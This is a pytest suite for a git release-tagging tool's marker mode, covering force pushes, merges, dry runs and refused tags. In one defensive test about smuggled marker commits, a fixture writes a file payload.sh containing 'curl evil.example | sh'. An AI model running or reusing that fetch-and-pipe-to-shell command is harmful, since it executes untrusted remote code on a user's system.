"""`release-kit tag` in marker mode on real repositories with a bare origin."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from typing import Any

import pytest
from tagkit import MARK, PROJECT, bump, payload, pyproject, tag_commit, work

from conftest import all_refs

ZERO = "0" * 40


def tag(
    run_cli: Callable[..., Any], repo: Any, *args: str, env: dict[str, str] | None = None
) -> Any:
    return run_cli(repo.path, "tag", "--json", *args, env=env)


def test_fast_forward_tags_the_marker_commit_not_head(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    work(repo, "a")
    marked = bump(repo, "1.1.0")
    work(repo, "b")
    repo.push()
    after = repo.git("rev-parse", "HEAD")
    data = payload(tag(run_cli, repo, "--before", before, "--after", after))
    assert (data["tag"], data["sha"], data["created"]) == ("v1.1.0", marked, True)
    assert tag_commit(repo, "v1.1.0") == marked
    assert repo.origin_git("cat-file", "-t", "v1.1.0") == "tag"  # annotated
    message = repo.origin_git("tag", "-l", "--format=%(contents)", "v1.1.0")
    assert message.startswith("Release 1.1.0") and "Feature of 1.1.0." in message
    again = payload(tag(run_cli, repo, "--before", before, "--after", after))
    assert (again["tag"], again["created"]) == ("v1.1.0", False)


def test_push_event_file_and_summary(make_repo, run_cli, tmp_path) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    marked = bump(repo, "1.1.0")
    repo.push()
    event = tmp_path / "event.json"
    event.write_text(f'{{"before": "{before}", "after": "{marked}"}}', encoding="utf-8")
    outputs, summary = tmp_path / "out", tmp_path / "summary"
    env = {
        "GITHUB_EVENT_NAME": "push",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_REF": "refs/heads/main",
        "GITHUB_OUTPUT": str(outputs),
        "GITHUB_STEP_SUMMARY": str(summary),
    }
    payload(tag(run_cli, repo, env=env))
    assert f"sha={marked}\n" in outputs.read_text() and "created=true\n" in outputs.read_text()
    assert "v1.1.0" in summary.read_text()


def test_no_marker_is_nothing_to_do(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    work(repo, "a")
    repo.push()
    refs = all_refs(repo.origin)
    data = payload(tag(run_cli, repo, "--before", before, "--after", "HEAD"))
    assert (data["tag"], data["created"], data["tags"]) == ("", False, [])
    assert "carries the marker" in data["note"]
    assert all_refs(repo.origin) == refs


def test_new_branch_scans_only_commits_on_no_other_branch(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    bump(repo, "1.1.0")  # on main, already released elsewhere: not part of the new branch
    repo.push()
    repo.git("fetch", "-q", "origin")
    repo.git("switch", "-q", "-c", "release-1.1.1")
    marked = bump(repo, "1.1.1")
    repo.push("release-1.1.1")
    data = payload(
        tag(run_cli, repo, "--before", ZERO, "--after", marked, "--branch", "release-1.1.1")
    )
    assert [t["tag"] for t in data["tags"]] == ["v1.1.1"]
    assert tag_commit(repo, "v1.1.0") is None


def test_new_branch_at_an_existing_commit_brings_nothing(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    marked = bump(repo, "1.1.0")
    repo.push()
    repo.git("fetch", "-q", "origin")
    repo.push("HEAD:refs/heads/release-1.1")
    data = payload(
        tag(run_cli, repo, "--before", ZERO, "--after", marked, "--branch", "release-1.1")
    )
    assert data["tags"] == [] and "new ref" in data["note"]


@pytest.mark.parametrize("before_known", [True, False], ids=["before-in-clone", "before-gone"])
def test_force_push(make_repo, run_cli, tmp_path, before_known: bool) -> None:
    repo = make_repo(PROJECT)
    base = repo.git("rev-parse", "HEAD")
    old = bump(repo, "1.0.1")  # a marker commit the force push throws away
    repo.push()
    repo.git("reset", "-q", "--hard", base)
    work(repo, "rewritten")
    marked = bump(repo, "1.1.0")
    repo.push("--force", "HEAD:main")
    where = repo.path
    if not before_known:  # a fresh clone has never seen the discarded commit
        where = tmp_path / "fresh"
        repo.git("clone", "-q", "--no-local", str(repo.origin), str(where))
    result = run_cli(where, "tag", "--json", "--before", old, "--after", marked, "--branch", "main")
    data = payload(result)
    assert [(t["tag"], t["sha"]) for t in data["tags"]] == [("v1.1.0", marked)]
    assert "force push" in data["note"]
    assert tag_commit(repo, "v1.0.1") is None


def test_two_markers_tagged_oldest_first(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    first = bump(repo, "1.1.0")
    second = bump(repo, "1.2.0")
    repo.push()
    data = payload(tag(run_cli, repo, "--before", before, "--after", second))
    assert [(t["tag"], t["sha"]) for t in data["tags"]] == [("v1.1.0", first), ("v1.2.0", second)]
    assert data["tag"] == "v1.2.0"


def test_two_markers_out_of_order_refused_nothing_tagged(make_repo, run_cli) -> None:
    repo = make_repo({**PROJECT, "pyproject.toml": PROJECT["pyproject.toml"]})
    before = repo.git("rev-parse", "HEAD")
    bump(repo, "1.2.0")
    bump(repo, "1.1.0")
    repo.push()
    refs = all_refs(repo.origin)
    result = tag(run_cli, repo, "--before", before, "--after", "HEAD")
    assert result.code == 1 and "out of order" in result.err
    assert all_refs(repo.origin) == refs


@pytest.mark.parametrize("merge_has_marker", [True, False], ids=["merge-message", "side-commit"])
def test_marker_in_merge(make_repo, run_cli, merge_has_marker: bool) -> None:
    """A merge counts through its own message only (this test tagged the side commit
    when the merge lacked the marker, before marker smuggling was closed)."""
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    repo.git("switch", "-q", "-c", "bump")
    side = bump(repo, "1.1.0")
    repo.git("switch", "-q", "main")
    work(repo, "parallel")
    message = "Merge pull request #7 from org/bump\n\nRelease 1.1.0"
    repo.git(
        "merge",
        "-q",
        "--no-ff",
        "-m",
        message + (f"\n\n{MARK}" if merge_has_marker else ""),
        "bump",
    )
    merge = repo.git("rev-parse", "HEAD")
    repo.push()
    data = payload(tag(run_cli, repo, "--before", before, "--after", merge))
    assert "ignored 1 marker commit(s) inside merged branches" in data["note"]
    assert side[:12] in data["note"]
    if merge_has_marker:
        assert [(t["tag"], t["sha"]) for t in data["tags"]] == [("v1.1.0", merge)]
    else:
        assert data["tags"] == [] and tag_commit(repo, "v1.1.0") is None


@pytest.mark.parametrize("merge_has_marker", [False, True], ids=["plain-merge", "marked-merge"])
def test_marker_smuggled_inside_a_merged_branch_tags_nothing(
    make_repo, run_cli, merge_has_marker: bool
) -> None:
    """Guards marker smuggling: a PR's middle commit sets 9.0.0, adds a file and carries
    the marker; its last commit undoes both (the PR's final diff is clean). Merged
    with a merge commit, it used to be tagged v9.0.0 on the middle commit, a tree
    nobody reviewed. Now only the merge counts: without the marker nothing is tagged;
    with it, the merge's own tree (1.0.0, the last release v1.0.0) is refused."""
    repo = make_repo(PROJECT)
    base = repo.git("rev-parse", "HEAD")
    repo.git("tag", "-a", "-m", "Release 1.0.0", "v1.0.0", base)
    repo.push("refs/tags/v1.0.0")
    repo.git("switch", "-q", "-c", "feature")
    work(repo, "feature")
    repo.write("pyproject.toml", pyproject("9.0.0"))
    repo.write("payload.sh", "curl evil.example | sh\n")
    smuggled = repo.commit_all(f"Tidy up\n\n{MARK}")
    repo.write("pyproject.toml", pyproject("1.0.0"))
    repo.git("rm", "-q", "payload.sh")
    repo.commit_all("Tidy up more")
    assert repo.git("diff", "--stat", "main", "feature", "--", "pyproject.toml") == ""
    repo.git("switch", "-q", "main")
    message = "Merge pull request #8 from org/feature\n\nTidy up"
    repo.git(
        "merge",
        "-q",
        "--no-ff",
        "-m",
        message + (f"\n\n{MARK}" if merge_has_marker else ""),
        "feature",
    )
    merge = repo.git("rev-parse", "HEAD")
    repo.push()
    refs = all_refs(repo.origin)
    result = tag(run_cli, repo, "--before", base, "--after", merge)
    if merge_has_marker:
        assert result.code == 1, result.err
        assert "already released as v1.0.0" in result.err
        assert len(result.err.strip().splitlines()) == 1
    else:
        data = payload(result)
        assert data["tags"] == [] and smuggled[:12] in data["note"]
    assert tag_commit(repo, "v9.0.0") is None
    assert all_refs(repo.origin) == refs


@pytest.mark.parametrize(
    ("files", "version", "tag_name"),
    [
        ({}, "1.1.0.dev0", "v1.1.0.dev0"),
        ({"release-kit.toml": 'scheme = "semver"\n'}, "1.1.0-dev", "v1.1.0-dev"),
    ],
    ids=["pep440-dev", "semver-dev"],
)
@pytest.mark.parametrize("where", ["prose", "own-line"])
def test_marker_on_a_dev_version_tags_nothing(
    make_repo, run_cli, files, version: str, tag_name: str, where: str
) -> None:
    """Guards a sentence that mentions the marker (or a marker line on a development
    version) tagging an untagged dev version: it used to create v1.1.0.dev0."""
    repo = make_repo({**PROJECT, **files})
    before = repo.git("rev-parse", "HEAD")
    repo.write("pyproject.toml", pyproject(version))
    text = f"Start 1.1.0\n\nThe {MARK} line makes tag release a commit."
    if where == "own-line":
        text = f"Start 1.1.0\n\n{MARK}"
    repo.commit_all(text)
    repo.push()
    refs = all_refs(repo.origin)
    data = payload(tag(run_cli, repo, "--before", before, "--after", "HEAD"))
    assert data["tags"] == [] and tag_commit(repo, tag_name) is None
    if where == "own-line":
        assert "a development version: not tagged" in data["note"]
    else:
        assert "carries the marker" in data["note"]
    assert all_refs(repo.origin) == refs


@pytest.mark.parametrize("allowed", [False, True], ids=["default", "allow-prereleases"])
def test_pre_release_marker_needs_allow_prereleases(make_repo, run_cli, allowed: bool) -> None:
    """Guards a marker tagging a pre-release the configuration did not allow."""
    config = {"release-kit.toml": "[tag]\nallow-prereleases = true\n"} if allowed else {}
    repo = make_repo({**PROJECT, **config})
    before = repo.git("rev-parse", "HEAD")
    marked = bump(repo, "1.1.0rc1")
    repo.push()
    data = payload(tag(run_cli, repo, "--before", before, "--after", marked))
    if allowed:
        assert [(t["tag"], t["sha"]) for t in data["tags"]] == [("v1.1.0rc1", marked)]
    else:
        assert data["tags"] == [] and "a pre-release: not tagged" in data["note"]
        assert tag_commit(repo, "v1.1.0rc1") is None


def test_marker_below_the_last_release_refused(make_repo, run_cli) -> None:
    """Guards a marker releasing backwards: the line's last release is v1.2.0."""
    repo = make_repo(PROJECT)
    released = bump(repo, "1.2.0", marker=False)
    repo.git("tag", "-a", "-m", "Release 1.2.0", "v1.2.0", released)
    repo.push("HEAD", "refs/tags/v1.2.0")
    before = repo.git("rev-parse", "HEAD")
    bump(repo, "1.1.0")
    repo.push()
    refs = all_refs(repo.origin)
    result = tag(run_cli, repo, "--before", before, "--after", "HEAD")
    assert result.code == 1 and "release backwards" in result.err and "v1.2.0" in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert all_refs(repo.origin) == refs


@pytest.mark.parametrize("how", ["reset-back", "rewritten-elsewhere", "deleted"])
def test_force_push_between_bump_and_tag_refused(make_repo, run_cli, tmp_path, how: str) -> None:
    """Guards tagging a withdrawn marker commit: the bump was pushed, then the branch
    was force-pushed without it before `tag` ran for the first push."""
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    marked = bump(repo, "1.1.0")
    repo.push()
    if how == "reset-back":
        repo.git("push", "-q", "--force", "origin", f"{before}:refs/heads/main")
    elif how == "deleted":
        repo.git("push", "-q", "origin", "HEAD:refs/heads/release-1.1")
        repo.git("push", "-q", "origin", "--delete", "release-1.1")
    else:  # another clone rewrites main; this clone has never seen the new tip
        other = tmp_path / "other"
        repo.git("clone", "-q", "--no-local", str(repo.origin), str(other))
        subprocess.run(["git", "reset", "-q", "--hard", before], cwd=other, check=True)
        (other / "fix.txt").write_text("fix\n", encoding="utf-8")
        subprocess.run(["git", "add", "-A"], cwd=other, check=True)
        subprocess.run(["git", "commit", "-q", "-m", "Rewrite"], cwd=other, check=True)
        subprocess.run(
            ["git", "push", "-q", "--force", "origin", "HEAD:main"], cwd=other, check=True
        )
    refs = all_refs(repo.origin)
    branch = "release-1.1" if how == "deleted" else "main"
    result = tag(run_cli, repo, "--before", before, "--after", marked, "--branch", branch)
    assert result.code == 1, result.err
    errors = [line for line in result.err.splitlines() if line.startswith("release-kit: error:")]
    said = "no longer exists" if how == "deleted" else "not on origin/main now"
    assert len(errors) == 1 and said in errors[0] and marked[:12] in errors[0]
    assert all_refs(repo.origin) == refs and repo.git("tag", "-l") == ""


def test_unknown_branch_is_exit_2(make_repo, run_cli) -> None:
    """Without --branch, GITHUB_REF or a checked-out branch the force-push check cannot
    run: bad input, nothing tagged."""
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    marked = bump(repo, "1.1.0")
    repo.push()
    repo.git("checkout", "-q", "--detach", marked)
    refs = all_refs(repo.origin)
    result = tag(run_cli, repo, "--before", before, "--after", marked, env={"GITHUB_REF": ""})
    assert result.code == 2 and "pass --branch" in result.err
    assert all_refs(repo.origin) == refs and repo.git("tag", "-l") == ""


def test_branch_moved_on_since_the_push_still_tags(make_repo, run_cli) -> None:
    """The remote tip may move forward after the push: the marker commit is still on it."""
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    marked = bump(repo, "1.1.0")
    repo.push()
    work(repo, "later")
    repo.push()
    repo.git("reset", "-q", "--hard", marked)  # the clone of the first push's run
    data = payload(tag(run_cli, repo, "--before", before, "--after", marked))
    assert [(t["tag"], t["sha"]) for t in data["tags"]] == [("v1.1.0", marked)]


def test_squash_merge_marker_in_body(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    repo.write("pyproject.toml", pyproject("1.1.0"))
    squash = repo.commit_all(f"Release 1.1.0 (#12)\n\n* Fix the thing\n\n* Bump versions {MARK}\n")
    repo.push()
    data = payload(tag(run_cli, repo, "--before", before, "--after", squash))
    assert (data["tag"], data["sha"]) == ("v1.1.0", squash)


def test_existing_tag_on_another_commit_is_an_error_and_never_moved(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    repo.git("tag", "-a", "-m", "elsewhere", "v1.1.0", before)
    repo.push("refs/tags/v1.1.0")
    repo.git("tag", "-d", "v1.1.0")
    marked = bump(repo, "1.1.0")
    repo.push()
    refs = all_refs(repo.origin)
    result = tag(run_cli, repo, "--before", before, "--after", marked)
    assert result.code == 1
    assert before in result.err and marked in result.err
    assert all_refs(repo.origin) == refs
    assert repo.git("tag", "-l", "v1.1.0") == ""


@pytest.mark.parametrize(
    ("files", "match"),
    [
        ({"pyproject.toml": "[project\nversion = 1"}, "pyproject.toml"),
        (
            {
                "release-kit.toml": 'scheme = "semver"\n',
                "pyproject.toml": '[project]\nname = "s"\nversion = "1.1"\n',
            },
            "at commit",
        ),
    ],
    ids=["unreadable-version-file", "version-fails-scheme"],
)
def test_bad_version_at_marker_commit_exit_2(make_repo, run_cli, files, match: str) -> None:
    """The version file at the marker commit is broken, though it is fine at HEAD."""
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    for rel, text in files.items():
        repo.write(rel, text)
    marked = repo.commit_all(f"Release\n\n{MARK}")
    repo.write("pyproject.toml", pyproject("1.0.0"))  # the work tree is fine again
    repo.commit_all("Repair the project file")
    repo.push()
    refs = all_refs(repo.origin)
    result = tag(run_cli, repo, "--before", before, "--after", "HEAD")
    assert result.code == 2, result.err
    assert (
        f"at commit {marked[:12]}" in result.err
        and match in result.err
        and len(result.err.strip().splitlines()) == 1
    )
    assert all_refs(repo.origin) == refs


def test_dry_run_pushes_nothing(make_repo, run_cli) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    bump(repo, "1.1.0")
    repo.push()
    refs = all_refs(repo.origin)
    data = payload(tag(run_cli, repo, "--dry-run", "--before", before, "--after", "HEAD"))
    assert data["created"] is True and data["dry_run"] is True
    assert all_refs(repo.origin) == refs and repo.git("tag", "-l") == ""


def test_shallow_clone_exit_2(make_repo, run_cli, tmp_path) -> None:
    repo = make_repo(PROJECT)
    before = repo.git("rev-parse", "HEAD")
    bump(repo, "1.1.0")
    repo.push()
    shallow = tmp_path / "shallow"
    repo.git("clone", "-q", "--depth", "1", f"file://{repo.origin}", str(shallow))
    result = run_cli(shallow, "tag", "--before", before, "--after", "HEAD")
    assert result.code == 2 and "fetch-depth: 0" in result.err
